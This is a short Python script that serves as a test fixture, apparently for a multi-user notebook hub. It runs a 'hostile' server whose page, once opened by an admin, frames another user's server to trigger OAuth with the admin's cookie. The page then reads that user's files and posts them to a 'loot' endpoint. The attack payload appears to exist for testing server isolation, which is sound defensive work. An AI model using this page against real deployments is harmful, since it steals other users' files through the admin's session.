# Alice's hostile server for TestHostileAppFramesAnotherServer: its page,
# opened by carol (an admin), loads bob's server in
# an iframe (a navigation: Sec-Fetch-Mode navigate), which runs the hub's
# OAuth with carol's cookie; then reads bob's files with the cookie it set.
import http.server, json, os, sys
port, logfile = int(sys.argv[1]), sys.argv[2]
PAGE = b"""<!doctype html><html><head><title>hostile</title></head><body>
<script>
(async () => {
  const out = {};
  try {
    const before = await fetch('/user/bob/api/contents', {credentials: 'include'});
    out.before = before.status;
    const f = document.createElement('iframe');
    f.src = '/user/bob/tree';
    document.body.appendChild(f);
    await new Promise(r => { f.onload = r; setTimeout(r, 20000); });
    try { out.iframe_href = f.contentWindow.location.href; } catch (e) { out.iframe_err = String(e); }
    const r = await fetch('/user/bob/api/contents', {credentials: 'include'});
    out.after = r.status;
    out.body = (await r.text()).slice(0, 200);
  } catch (e) { out.error = String(e); }
  await fetch('loot', {method: 'POST', body: JSON.stringify(out)});
  document.title = 'done';
})();
</script></body></html>"""
class App(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        fd = os.open(logfile, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
        with os.fdopen(fd, "a") as f:
            f.write(body.decode("utf-8", "replace").replace("\n", " ") + "\n")
        self.send_response(204)
        self.end_headers()
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", port), App).serve_forever()
